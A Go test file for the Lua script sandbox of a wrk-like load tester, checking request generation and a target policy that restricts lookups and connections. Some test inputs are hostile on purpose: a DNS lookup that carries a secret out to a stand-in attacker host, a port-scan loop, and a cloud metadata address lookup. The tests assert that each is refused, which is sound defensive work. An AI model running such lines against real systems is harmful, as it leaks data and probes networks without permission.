package luart

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/wrklint/wrklint/internal/testutil"

	"github.com/wrklint/wrklint/runner"
	"github.com/wrklint/wrklint/runner/policy"
)

// sent is one request as a server would see it.
type sent struct {
	Thread  int
	Method  string
	Path    string
	Headers http.Header
	Host    string
	Body    string
	// Remote and At (arrival time) are filled by the e2e recorder only.
	Remote string
	At     time.Time
}

// serveFunc answers one request.
type serveFunc func(r sent) *runner.Response

func ok200(sent) *runner.Response { return &runner.Response{Status: 200, Body: []byte("ok")} }

// parseBatch splits a batch into requests with net/http's parser, which
// also checks that the bytes are valid HTTP/1.1.
func parseBatch(t *testing.T, thread int, b []byte) []sent {
	t.Helper()
	var out []sent
	r := bufio.NewReader(bytes.NewReader(b))
	for {
		if _, err := r.Peek(1); err == io.EOF {
			return out
		}
		req, err := http.ReadRequest(r)
		if err != nil {
			t.Fatalf("thread %d sent invalid HTTP %q: %v", thread, b, err)
		}
		body, err := io.ReadAll(req.Body)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, sent{Thread: thread, Method: req.Method, Path: req.RequestURI, Headers: req.Header, Host: req.Host, Body: string(body)})
	}
}

// driveResult is what a driven run produced.
type driveResult struct {
	caps   runner.ScriptCaps
	sent   [][]sent // per thread, in order
	delays [][]time.Duration
}

// drive plays the worker's part: it asks for the caps, creates the threads
// in order, then runs up to batches request batches per thread through the
// hooks, answering with serve.
func drive(t *testing.T, s *Script, threads, batches int, serve serveFunc) driveResult {
	t.Helper()
	if serve == nil {
		serve = ok200
	}
	res := driveResult{caps: s.Caps(), sent: make([][]sent, threads), delays: make([][]time.Duration, threads)}
	ts := make([]runner.ThreadScript, threads)
	static := make([][]byte, threads)
	for i := range ts {
		th, err := s.NewThread(i)
		if err != nil {
			t.Fatalf("NewThread(%d): %v", i, err)
		}
		ts[i] = th
		if !res.caps.Request {
			if static[i], err = th.StaticRequest(); err != nil {
				t.Fatalf("StaticRequest: %v", err)
			}
		}
	}
	for i, th := range ts {
		var buf []byte
		for b := 0; b < batches && !th.Stopped(); b++ {
			if res.caps.Delay {
				d, err := th.Delay()
				if err != nil {
					t.Fatalf("Delay: %v", err)
				}
				res.delays[i] = append(res.delays[i], d)
			}
			batch := static[i]
			if res.caps.Request {
				var err error
				if buf, err = th.Request(buf); err != nil {
					t.Fatalf("Request: %v", err)
				}
				batch = buf
			}
			reqs := parseBatch(t, i+1, batch)
			if len(reqs) != max(res.caps.Depth, 1) {
				t.Fatalf("thread %d batch %d holds %d requests, depth %d", i+1, b, len(reqs), res.caps.Depth)
			}
			for _, r := range reqs {
				res.sent[i] = append(res.sent[i], r)
				resp := serve(r)
				if res.caps.Response {
					if err := th.Response(resp); err != nil {
						t.Fatalf("Response: %v", err)
					}
				}
			}
		}
	}
	return res
}

// listen starts a TCP listener on 127.0.0.1 that accepts and closes
// connections (for wrk.connect), returning its port.
func listen(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	return fmt.Sprint(ln.Addr().(*net.TCPAddr).Port)
}

// load creates a Script for a compat script or inline source.
func load(t *testing.T, name, src string, opts Options) (*Script, *testutil.SyncBuffer, *testutil.SyncBuffer) {
	t.Helper()
	var out, warn testutil.SyncBuffer
	opts.Stdout, opts.Warnings = &out, &warn
	if opts.URL == "" {
		opts.URL = "http://127.0.0.1:8080/"
	}
	if opts.Threads == 0 {
		opts.Threads = 2
	}
	if src == "" {
		b, err := os.ReadFile(filepath.Join("testdata", "compat", name))
		if err != nil {
			t.Fatal(err)
		}
		src, name = string(b), filepath.Join("testdata", "compat", name)
	}
	s, err := New(name, []byte(src), opts)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	t.Cleanup(s.Close)
	return s, &out, &warn
}

func paths(rs []sent) []string {
	var out []string
	for _, r := range rs {
		out = append(out, r.Method+" "+r.Path)
	}
	return out
}

func TestCompatScriptsDriven(t *testing.T) {
	port := listen(t)
	url := "http://127.0.0.1:" + port + "/base?q=1"
	tests := []struct {
		script  string
		threads int
		batches int
		serve   serveFunc
		check   func(t *testing.T, r driveResult, out string)
	}{
		{
			script: "counter.lua", threads: 2, batches: 3,
			check: func(t *testing.T, r driveResult, _ string) {
				if !r.caps.Request || r.caps.Response || r.caps.Depth != 1 {
					t.Errorf("caps = %+v", r.caps)
				}
				// The start-up check consumed /0 on thread 1 only (wrk).
				want := [][]string{{"GET /1", "GET /2", "GET /3"}, {"GET /0", "GET /1", "GET /2"}}
				for i := range want {
					if got := paths(r.sent[i]); fmt.Sprint(got) != fmt.Sprint(want[i]) {
						t.Errorf("thread %d sent %v, want %v", i+1, got, want[i])
					}
					for _, s := range r.sent[i] {
						if s.Headers.Get("X-Counter") != strings.TrimPrefix(s.Path, "/") {
							t.Errorf("X-Counter %q on %s", s.Headers.Get("X-Counter"), s.Path)
						}
						if s.Host != "127.0.0.1:"+port {
							t.Errorf("Host = %q", s.Host)
						}
					}
				}
			},
		},
		{
			script: "auth.lua", threads: 2, batches: 3,
			serve: func(r sent) *runner.Response {
				if r.Path == "/login" {
					return &runner.Response{Status: 200, Headers: []runner.HeaderField{
						{Name: []byte("X-Token"), Value: []byte("stale")},
						{Name: []byte("X-Token"), Value: []byte(fmt.Sprintf("tok%d", r.Thread))},
					}}
				}
				return ok200(r)
			},
			check: func(t *testing.T, r driveResult, _ string) {
				for i := range r.sent {
					want := []string{"POST /login", "GET /resource", "GET /resource"}
					if got := paths(r.sent[i]); fmt.Sprint(got) != fmt.Sprint(want) {
						t.Errorf("thread %d sent %v", i+1, got)
					}
					// The last duplicate header wins, as in wrk.
					if got := r.sent[i][2].Headers.Get("Authorization"); got != fmt.Sprintf("Bearer tok%d", i+1) {
						t.Errorf("thread %d Authorization = %q", i+1, got)
					}
					if r.sent[i][0].Headers.Get("Authorization") != "" {
						t.Errorf("login carried a token")
					}
				}
			},
		},
		{
			script: "post.lua", threads: 2, batches: 2,
			check: func(t *testing.T, r driveResult, _ string) {
				if r.caps.Request || r.caps.Depth != 1 {
					t.Errorf("caps = %+v, want static", r.caps)
				}
				for _, s := range append(r.sent[0], r.sent[1]...) {
					if s.Method != "POST" || s.Path != "/base?q=1" || s.Body != `{"name":"wrk","n":1}` ||
						s.Headers.Get("Content-Type") != "application/json" || s.Headers.Get("Content-Length") != "20" {
						t.Errorf("sent %+v", s)
					}
				}
			},
		},
		{
			script: "pipeline.lua", threads: 1, batches: 2,
			check: func(t *testing.T, r driveResult, _ string) {
				if r.caps.Depth != 3 {
					t.Errorf("depth = %d, want 3", r.caps.Depth)
				}
				want := "[GET /one GET /two GET /three GET /one GET /two GET /three]"
				if got := fmt.Sprint(paths(r.sent[0])); got != want {
					t.Errorf("sent %s", got)
				}
			},
		},
		{
			script: "delay.lua", threads: 2, batches: 20,
			check: func(t *testing.T, r driveResult, _ string) {
				if !r.caps.Delay {
					t.Fatalf("caps = %+v", r.caps)
				}
				for _, ds := range r.delays {
					for _, d := range ds {
						if d < 20*time.Millisecond || d > 30*time.Millisecond {
							t.Errorf("delay %v outside 20..30 ms", d)
						}
					}
				}
				if fmt.Sprint(r.delays[0]) == fmt.Sprint(r.delays[1]) {
					t.Errorf("both threads drew the same delays %v: states share a random sequence", r.delays[0])
				}
			},
		},
		{
			script: "stop.lua", threads: 2, batches: 100,
			check: func(t *testing.T, r driveResult, _ string) {
				for i := range r.sent {
					if len(r.sent[i]) != 5 {
						t.Errorf("thread %d sent %d requests, want 5", i+1, len(r.sent[i]))
					}
				}
			},
		},
		{
			script: "setup.lua", threads: 3, batches: 4,
			check: func(t *testing.T, r driveResult, out string) {
				want := "thread 1 created (t1, max 10)\nthread 2 created (t2, max 20)\nthread 3 created (t3, max 30)\n"
				if out != want {
					t.Errorf("output %q, want %q", out, want)
				}
			},
		},
		{
			script: "addr.lua", threads: 2, batches: 1,
			check: func(t *testing.T, r driveResult, out string) {
				want := strings.Repeat("thread addr: 127.0.0.1:"+port+"\n", 2)
				if out != want {
					t.Errorf("output %q, want %q", out, want)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.script, func(t *testing.T) {
			p, _ := strconv.Atoi(port)
			// As the CLI does: the address the URL's host resolved to.
			addr := &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: p}
			s, out, warn := load(t, tt.script, "", Options{URL: url, Threads: tt.threads, Addr: addr})
			r := drive(t, s, tt.threads, tt.batches, tt.serve)
			tt.check(t, r, out.String())
			if warn.String() != "" {
				t.Errorf("sandbox warnings: %s", warn)
			}
		})
	}
}

func TestSetupDoneThreadValues(t *testing.T) {
	s, out, _ := load(t, "setup.lua", "", Options{Threads: 2})
	drive(t, s, 2, 4, nil)
	if err := s.Done(Result{}); err != nil {
		t.Fatal(err)
	}
	// Thread 1's start-up request() call counts as a request, as in wrk.
	want := "thread 1: 5 requests, 4 responses\nthread 2: 4 requests, 4 responses\n"
	if got := out.String(); !strings.HasSuffix(got, want) {
		t.Errorf("done() printed %q, want suffix %q", got, want)
	}
}

// TestThreadAddr: thread.addr, wrk.lookup and wrk.connect under the target
// policy. The URL is http://127.0.0.1:8080/; its host and port are all a
// script may use unless more is allowed explicitly, and a refusal ends the
// script with a *policy.RefusedError (the CLI's exit 4) that pcall cannot
// catch.
func TestThreadAddr(t *testing.T) {
	addr := &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 8080}
	allow := func(entries ...string) *policy.Targets {
		p, err := policy.NewTargets([]policy.Source{{Name: "--allow-target", Entries: entries}}, nil)
		if err != nil {
			t.Fatal(err)
		}
		return p.WithApproved([]net.IP{addr.IP}, addr.Port)
	}
	tests := []struct {
		name    string
		src     string
		want    string // thread 2's address
		wantErr string // for a refusal, the whole message up to the hook
		targets *policy.Targets
	}{
		{name: "default is the resolved address", src: `function setup(t) end`, want: "127.0.0.1:8080"},
		{name: "the URL's host and port, looked up", src: `
function setup(t)
  t.addr = wrk.lookup(wrk.host, wrk.port)[1]
  assert(wrk.connect(t.addr) == false) -- nothing listens; allowed all the same
end`, want: "127.0.0.1:8080"},
		{name: "get returns a copy", src: `
function setup(t)
  local a = t.addr
  assert(tostring(a) == "127.0.0.1:8080", tostring(a))
  t.addr = wrk.lookup("::1", 81)[1]
  assert(tostring(t.addr) == "::1:81", tostring(t.addr))
end`, want: "[::1]:81", targets: allow("[::1]:81")},
		{name: "strings are rejected", src: `function setup(t) t.addr = "10.0.0.1:80" end`,
			wantErr: "wrk.addr expected, got string"},
		{name: "other fields cannot be set", src: `function setup(t) t.id = 1 end`,
			wantErr: "cannot set 'number' on thread"},
		{name: "unknown fields read as their name", src: `function setup(t) assert(t.foo == "foo") end`, want: "127.0.0.1:8080"},
		{name: "another port of the URL's host", src: `
function setup(t)
  t.addr = wrk.lookup(wrk.host, 9090)[1]
end`, wantErr: "thread.addr = 127.0.0.1:9090 at addr.lua:3 refused by the target policy: not the URL's host and port (127.0.0.1:8080); allow it with --allow-target 127.0.0.1:9090 (or targets.allow in .wrklint.yml)",
			targets: allow()},
		{name: "a port scan stops at the first port", src: `
function setup(t)
  for p = 1, 1024 do wrk.connect(wrk.lookup(wrk.host, p)[1]) end
end`, wantErr: "wrk.connect(127.0.0.1:1) at addr.lua:3 refused by the target policy: not the URL's host and port (127.0.0.1:8080); allow it with --allow-target 127.0.0.1:1",
			targets: allow()},
		{name: "another private host is not looked up", src: `
function setup(t)
  t.addr = wrk.lookup("10.1.2.3", "80")[1]
end`, wantErr: `wrk.lookup("10.1.2.3") at addr.lua:3 refused by the target policy: only the URL's host (127.0.0.1) may be looked up; allow it with --allow-target 10.1.2.3 (or targets.allow in .wrklint.yml)`},
		{name: "nor is any other name", src: `
function setup(t)
  wrk.lookup("secret-token.attacker.example", "80")
end`, wantErr: `wrk.lookup("secret-token.attacker.example") at addr.lua:3 refused by the target policy: only the URL's host (127.0.0.1) may be looked up; allow it with --allow-target secret-token.attacker.example`},
		{name: "pcall cannot swallow a refusal", src: `
function setup(t)
  local ok = pcall(function() t.addr = wrk.lookup(wrk.host, 22)[1] end)
  ok = pcall(function() return 1 end)
  t.addr = wrk.lookup(wrk.host, wrk.port)[1]
end`, wantErr: "thread.addr = 127.0.0.1:22 at addr.lua:3 refused by the target policy", targets: allow()},
		{name: "link-local and metadata addresses", src: `
function setup(t)
  t.addr = wrk.lookup("169.254.169.254", 80)[1]
end`, wantErr: `wrk.lookup("169.254.169.254") at addr.lua:3 refused by the target policy`, targets: allow()},
		{name: "allowed by --allow-target", src: `
function setup(t)
  t.addr = wrk.lookup("192.0.2.7", 80)[1]
end`, want: "192.0.2.7:80", targets: testTargets(t)},
		{name: "allowed by name: what the name resolves to", src: `
function setup(t)
  t.addr = wrk.lookup("localhost", 9090)[1]
  t.addr = t.addr -- the name stays with the thread's copy
end`, want: "9090", targets: allow("localhost:9090")},
		{name: "deny wins", src: `
function setup(t)
  t.addr = wrk.lookup("127.0.0.9", 80)[1]
end`, wantErr: `wrk.lookup("127.0.0.9") at addr.lua:3 refused by the target policy: targets.deny "127.0.0.8/30"; remove the entry from targets.deny in .wrklint.yml to allow it (deny always wins)`,
			targets: testTargets(t)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, _, _ := load(t, "addr.lua", tt.src, Options{Threads: 2, Addr: addr, Targets: tt.targets})
			_, err := s.NewThread(0)
			var th runner.ThreadScript
			if err == nil {
				th, err = s.NewThread(1)
			}
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("err = %v, want %q", err, tt.wantErr)
				}
				var refused *policy.RefusedError
				if isRefusal := strings.Contains(tt.wantErr, "refused by the target policy"); errors.As(err, &refused) != isRefusal {
					t.Errorf("err = %#v: want a *policy.RefusedError: %v", err, isRefusal)
				}
			} else if err != nil {
				t.Fatal(err)
			} else if got := th.(*thread).Addr().String(); !strings.HasSuffix(got, tt.want) {
				t.Errorf("thread 2 addr = %s, want %s", got, tt.want)
			}
		})
	}
}

func testTargets(t *testing.T) *policy.Targets {
	t.Helper()
	p, err := policy.NewTargets([]policy.Source{{Name: "--allow-target", Entries: []string{"192.0.2.0/24"}}},
		[]policy.Source{{Name: "targets.deny", Entries: []string{"127.0.0.8/30"}}})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func readCompat(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "compat", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestByteOrderMarkAndCRLF: LuaJIT skips a UTF-8 byte order mark and a "#"
// first line, and reads CRLF line endings; scripts saved on Windows have
// all three, and wrk runs them.
func TestByteOrderMarkAndCRLF(t *testing.T) {
	for src, want := range map[string]string{
		"\xef\xbb\xbffunction request()\r\n  return wrk.format(\"GET\", \"/bom\")\r\nend\r\n": "GET /bom ",
		// A long string's CRLF reads as one newline in LuaJIT: "a\nb".
		"\xef\xbb\xbf#!/usr/bin/env wrk\r\nlocal s = [[a\r\nb]]\r\nfunction request()\r\n  return wrk.format(\"GET\", \"/bom\" .. #s)\r\nend\r\n": "GET /bom3 ",
	} {
		s, _, _ := load(t, "bom.lua", src, Options{Threads: 1})
		if err := s.Prepare(); err != nil {
			t.Fatalf("Prepare: %v", err)
		}
		th, err := s.prepareThread(0)
		if err != nil {
			t.Fatalf("thread: %v", err)
		}
		req, err := th.Request(nil)
		if err != nil {
			t.Fatalf("request(): %v", err)
		}
		if !strings.HasPrefix(string(req), want) {
			t.Errorf("request %q, want it to start with %q", req, want)
		}
	}
}

// TestLookupRefusedBeforeResolving: a refused wrk.lookup never reaches the
// resolver, so no DNS query carries the name out. The resolver counts its
// dials; allowing the name explicitly shows that a lookup would dial.
func TestLookupRefusedBeforeResolving(t *testing.T) {
	for _, tt := range []struct {
		allow []string
		dials bool
	}{{nil, false}, {[]string{"secret-token.attacker.example"}, true}} {
		var dials atomic.Int64
		res := &net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
			dials.Add(1)
			return nil, errors.New("no network in this test")
		}}
		targets, err := policy.NewTargets([]policy.Source{{Name: "--allow-target", Entries: tt.allow}}, nil)
		if err != nil {
			t.Fatal(err)
		}
		s, _, _ := load(t, "lookup.lua", `function setup(t) wrk.lookup("secret-token.attacker.example", "80") end`,
			Options{Threads: 1, Resolver: res, Targets: targets})
		_, err = s.NewThread(0)
		if err == nil {
			t.Fatalf("allow %v: the lookup succeeded", tt.allow)
		}
		if got := dials.Load() > 0; got != tt.dials {
			t.Errorf("allow %v: %d dials (err %v); want dials: %v", tt.allow, dials.Load(), err, tt.dials)
		}
	}
}
